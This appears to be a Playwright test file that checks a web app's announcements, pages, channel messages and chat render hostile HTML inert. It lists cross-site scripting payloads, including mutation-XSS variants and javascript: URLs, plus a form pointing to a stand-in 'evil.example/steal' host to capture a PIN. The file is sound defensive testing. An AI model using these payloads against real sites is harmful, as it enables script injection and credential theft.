import type { APIRequestContext, Page, Route } from '@playwright/test'
import { expectNoCspReportsSoFar } from '../support/csp-sentinel.ts'
import { expect, test } from '../support/fixtures.ts'

/** Each payload tries to set window.__pwned (or open a dialog) when parsed, rendered, loaded or tapped. */
const PAYLOADS = [
  '<img src="x" onerror="window.__pwned = \'img\'">',
  '<svg onload="window.__pwned = \'svg\'"><circle r="4"/></svg>',
  '<script>window.__pwned = "script"</script>',
  '<a href="javascript:window.__pwned = \'link\'">Tap the link</a>',
  '<iframe src="javascript:window.top.__pwned = \'iframe\'"></iframe>',
  '<details open ontoggle="window.__pwned = \'toggle\'">x</details>',
  '<div onclick="window.__pwned = \'click\'">Tap the box</div>',
  '<style><!--</style><img src=/app/favicon.svg onerror="window.__pwned = \'mxss\'">-->',
  '<math><mtext><table><mglyph><style><img src=/app/favicon.svg onerror="window.__pwned = \'mglyph\'">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<base href="https://evil.example/"><form action="https://evil.example/steal"><input name="pin"></form>',
].join('\n')

const ACTIVE =
  'script, iframe, object, embed, form, base, svg, math, [onerror], [onload], [onclick], [ontoggle]'

/** The hostile-HTML fixture is never seeded: the sim's admin endpoint inserts it (once) for these tests. */
async function hostileFixture(request: APIRequestContext): Promise<{ notice: number; page: number }> {
  const response = await request.post('../__admin/hostile-content')
  expect(response.ok()).toBe(true)
  return (await response.json()) as { notice: number; page: number }
}

const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)

/** Rewrites one JSON call's answer; the rest of the answer is the sim's own. */
async function rewrite(page: Page, url: RegExp, change: (body: { data: unknown }) => void): Promise<void> {
  await page.route(url, async (route: Route) => {
    const response = await route.fetch()
    const body = (await response.json()) as { data: unknown }
    change(body)
    await route.fulfill({ response, json: body })
  })
}

test.describe('hostile HTML is rendered inert', () => {
  test.describe.configure({ timeout: 90_000 })

  test.beforeEach(async ({ page }) => {
    page.on('dialog', (dialog) => {
      throw new Error(`a dialog opened: ${dialog.message()}`)
    })
  })

  test('announcements: the fixture payload and more, with no CSP report or console error', async ({
    signedInPage: page,
    request,
    cspViolations,
    consoleErrors,
  }) => {
    await hostileFixture(request)
    await rewrite(page, /\/api\/notice\/info\?/, (body) => {
      const notice = body.data as { contents: string }
      notice.contents = `<p>Read carefully.</p>${PAYLOADS}${notice.contents}`
    })
    await page.goto('#/notify')
    await page.getByRole('link', { name: 'Read: Test fixture: hostile announcement' }).click()
    await expect(page.getByRole('heading', { name: 'Test fixture: hostile announcement' })).toBeVisible()
    const article = page.locator('main article')
    await expect(article.getByText('Read carefully.')).toBeVisible()
    await expect(article.locator(ACTIVE)).toHaveCount(0)
    await expect(article.locator('a[href^="javascript"], img[src="x"]')).toHaveCount(0)
    await article.getByText('Tap the box').click()
    await article.getByText('Tap the link').click()
    expect(await pwned(page)).toBeUndefined()
    await expectNoCspReportsSoFar(page, cspViolations, consoleErrors)
  })

  test('pages: the fixture page carries a payload', async ({
    signedInPage: page,
    request,
    cspViolations,
    consoleErrors,
  }) => {
    const fixture = await hostileFixture(request)
    await page.goto(`#/page?id=${fixture.page}`)
    await expect(page.getByRole('heading', { name: 'Test fixture: hostile page' })).toBeVisible()
    const article = page.locator('main article')
    await expect(article.getByText('balance pays first')).toBeVisible()
    await expect(article.locator(ACTIVE)).toHaveCount(0)
    await article.getByText('Tap here').click()
    expect(await pwned(page)).toBeUndefined()
    await expectNoCspReportsSoFar(page, cspViolations, consoleErrors)
  })

  test('channel messages', async ({ signedInPage: page, cspViolations, consoleErrors }) => {
    await rewrite(page, /\/api\/channel\/list(\?(?!.*tp=1).*)?$/, (body) => {
      const messages = body.data as { msg: string }[]
      if (messages[0]) messages[0].msg = `<p>Signal of the day.</p>${PAYLOADS}`
    })
    await page.goto('#/channel')
    await expect(page.getByText('Signal of the day.')).toBeVisible()
    await expect(page.locator('main').locator(ACTIVE)).toHaveCount(0)
    await page.getByText('Tap the box').click()
    expect(await pwned(page)).toBeUndefined()
    await expectNoCspReportsSoFar(page, cspViolations, consoleErrors)
  })

  test('chat: HTML typed by the user or sent by the other side shows as text', async ({
    signedInPage: page,
    cspViolations,
    consoleErrors,
  }) => {
    const theirs = `<img src=x onerror="window.__pwned = 'chat'"> agent ${Date.now()}`
    // One more message from the other side, as the chat host would send it.
    await rewrite(page, /\/chat_msg_list\?/, (body) => {
      const messages = body.data as Record<string, unknown>[]
      const last = messages.at(-1)
      messages.push({
        form_avatar: { user_id: 0, nick_name: 'Finance desk', icon: '' },
        content: theirs,
        msg_id: Number(last?.msg_id ?? 0) + 1_000_000,
        send_time: Math.floor(Date.now() / 1000),
        count: 0,
        type: 'text',
        ref: 0,
        url: '',
      })
    })
    await page.goto('#/chat')
    await page.getByRole('tab', { name: /Contacts/ }).click()
    await page.getByRole('link', { name: 'Chat with Finance desk' }).click()
    await expect(page.getByRole('heading', { name: 'Chat with Finance desk' })).toBeVisible()
    const mine = `<svg onload="window.__pwned = 'mine'"></svg><b>bold?</b> ${Date.now()}`
    await page.getByLabel('Message').fill(mine)
    await page.getByRole('button', { name: 'Send' }).click()
    // The markup is shown literally, as the characters typed.
    await expect(page.getByText(mine)).toBeVisible()
    const thread = page.locator('main')
    await expect(thread.locator('svg[onload], b:text("bold?"), img[src="x"]')).toHaveCount(0)
    await expect(page.getByText(theirs)).toBeVisible()
    await page.reload()
    await expect(page.getByText(mine)).toBeVisible()
    await expect(thread.locator('[onerror], [onload]')).toHaveCount(0)
    expect(await pwned(page)).toBeUndefined()
    await expectNoCspReportsSoFar(page, cspViolations, consoleErrors)
  })
})
